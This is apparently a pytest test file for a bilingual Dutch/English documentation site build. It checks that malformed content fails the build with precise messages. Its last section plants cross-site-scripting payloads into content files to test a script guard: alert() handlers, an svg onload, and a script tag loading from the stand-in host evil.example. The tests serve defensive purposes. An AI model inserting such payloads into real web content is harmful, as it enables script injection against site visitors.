"""Broken content fails the build with a message that names the file and the fix."""

from __future__ import annotations

import re

import pytest

from tests.helpers import build, scratch_copy


def test_a_page_without_its_english_twin_fails_the_build(tmp_path):
    project = scratch_copy(tmp_path / "p")
    (project / "docs" / "en" / "over.md").unlink()
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    assert "docs/nl/over.md has no EN twin: add docs/en/over.md" in result.stderr


def test_a_guide_whose_steps_do_not_add_up_or_that_names_an_unknown_worksheet_fails(tmp_path):
    project = scratch_copy(tmp_path / "p")
    guide = project / "docs" / "nl" / "gesprekken" / "over-geld.md"
    text = guide.read_text(encoding="utf-8")
    text = re.sub(r"duration: \d+", "duration: 999", text, count=1)
    text = text.replace("worksheets: [", "worksheets: [belangenkart, ", 1)
    guide.write_text(text, encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    assert "docs/nl/gesprekken/over-geld.md: the steps under #verloop add up to" in result.stderr
    assert "guide.duration is 999" in result.stderr
    assert "names worksheet 'belangenkart', which does not exist. Did you mean 'belangenkaart'?" in result.stderr


def test_a_case_story_with_a_mistyped_field_fails_the_build(tmp_path):
    project = scratch_copy(tmp_path / "p")
    story = project / "docs" / "en" / "praktijk" / "buurthuis.md"
    story.write_text(story.read_text(encoding="utf-8").replace("  outcome:", "  outcom:", 1), encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    assert "docs/en/praktijk/buurthuis.md: story.outcome is missing" in result.stderr
    assert "story.outcom is not a known field. Did you mean 'outcome'?" in result.stderr


def test_a_broken_markdown_link_fails_the_strict_build(tmp_path):
    project = scratch_copy(tmp_path / "p")
    page = project / "docs" / "nl" / "over.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n\nZie [dit](bestaat-niet.md).\n", encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    assert "bestaat-niet.md" in result.stderr


def test_language_independent_facts_that_differ_between_twins_fail_the_build_naming_both_files(tmp_path):
    project = scratch_copy(tmp_path / "p")
    guide = project / "docs" / "en" / "gesprekken" / "over-geld.md"
    text = guide.read_text(encoding="utf-8")
    text = text.replace("  duration: 90\n", "  duration: 100\n", 1).replace(
        "(10 min) {#opening}", "(20 min) {#opening}", 1
    )
    text = text.replace("  phase: op-tafel\n", "  phase: opties\n", 1)
    text = text.replace("  related: [kerngesprek, ", "  related: [", 1)
    guide.write_text(text, encoding="utf-8")
    story = project / "docs" / "en" / "praktijk" / "buurthuis.md"
    text = story.read_text(encoding="utf-8").replace("  outcome: akkoord\n", "  outcome: deels\n", 1)
    story.write_text(text.replace("  sector: buurt\n", "  sector: jeugd\n", 1), encoding="utf-8")
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    pair = "docs/nl/gesprekken/over-geld.md and docs/en/gesprekken/over-geld.md"
    for field, nl, en in (("duration", "90", "100"), ("phase", "'op-tafel'", "'opties'")):
        assert f"{pair} differ in guide.{field} ({nl} in Dutch, {en} in English)" in result.stderr, result.stderr
    assert f"{pair} differ in guide.related" in result.stderr
    stories = "docs/nl/praktijk/buurthuis.md and docs/en/praktijk/buurthuis.md"
    assert f"{stories} differ in story.outcome ('akkoord' in Dutch, 'deels' in English)" in result.stderr
    assert f"{stories} differ in story.sector" in result.stderr
    assert "Make them equal" in result.stderr


def test_a_truncated_file_in_the_worksheet_cache_is_rendered_again_and_the_build_passes(tmp_path):
    project = scratch_copy(tmp_path / "p")
    first = build(project, tmp_path / "site")
    assert first.returncode == 0, first.stderr[-3000:]
    good = (tmp_path / "site" / "werkbladen" / "belangenkaart.pdf").read_bytes()
    cached = [p for p in (project / ".cache" / "plugin" / "worksheets" / "nl").rglob("belangenkaart.pdf")]
    for path in cached:
        path.write_bytes(path.read_bytes()[:1000])
    result = build(project, tmp_path / "site-2")
    assert result.returncode == 0, result.stderr[-3000:]
    assert "worksheet cache: nl/belangenkaart.pdf was damaged" in result.stderr
    assert "worksheets/belangenkaart.yml" not in result.stderr
    assert (tmp_path / "site-2" / "werkbladen" / "belangenkaart.pdf").read_bytes() == good


# Content cannot carry script (hooks/content/scriptguard.py): each case puts a script element or an event
# handler into one kind of source, by replacing one line; the build fails naming file and line.
SCRIPT_CASES = {
    "a script in a fact": (
        "data/facts.yml",
        "    4. **Recht om te passen.**",
        "    4. <script>alert(1)</script> **Recht om te passen.**",
    ),
    "an unquoted handler in a page": (
        "docs/nl/over.md",
        None,
        "<img src=x onerror=alert(1)>",
    ),
    "a handler after a slash, in a page": (
        "docs/en/over.md",
        None,
        '<b/onclick="alert(1)">bold</b>',
    ),
    "a handler in an attribute list": (
        "docs/nl/methode/index.md",
        None,
        '## Kop {: onclick="alert(1)" }',
    ),
    "an upper-case handler in a template": (
        "templates/uitnodiging-kerngesprek.yml",
        "    Neem je belangenkaart mee.",
        "    Neem je <a ONCLICK=alert(1)>belangenkaart</a> mee.",
    ),
    "a script in a worksheet": (
        "worksheets/belangenkaart.yml",
        "    Met deze kaart zet je op een rij",
        "    <SCRIPT src=//evil.example/x.js></SCRIPT> Met deze kaart zet je op een rij",
    ),
    "a handler in the glossary": (
        "data/begrippen.yml",
        '    definition: "De mensen of de organisatie',
        '    definition: "<svg onload=alert(1)> De mensen of de organisatie',
    ),
}


@pytest.mark.parametrize("case", SCRIPT_CASES)
def test_a_script_or_event_handler_in_any_content_fails_the_build_naming_file_and_line(tmp_path, case):
    rel, old, new = SCRIPT_CASES[case]
    project = scratch_copy(tmp_path / "p")
    source = project / rel
    text = source.read_text(encoding="utf-8")
    if old is None:
        text = text.rstrip("\n") + "\n\n" + new + "\n"
    else:
        assert text.count(old) == 1, f"{rel}: the line to replace changed"
        text = text.replace(old, new)
    source.write_text(text, encoding="utf-8")
    line = text[: text.index(new)].count("\n") + 1
    result = build(project, tmp_path / "site")
    assert result.returncode != 0
    wanted = f"{rel}:{line}: a script element" if "script" in new.lower() else f"{rel}:{line}: an event handler "
    assert wanted in result.stderr, result.stderr[-3000:]
    assert "content may not carry code" in result.stderr
    assert not (tmp_path / "site" / "_headers").exists(), "the build went on to write a security policy"
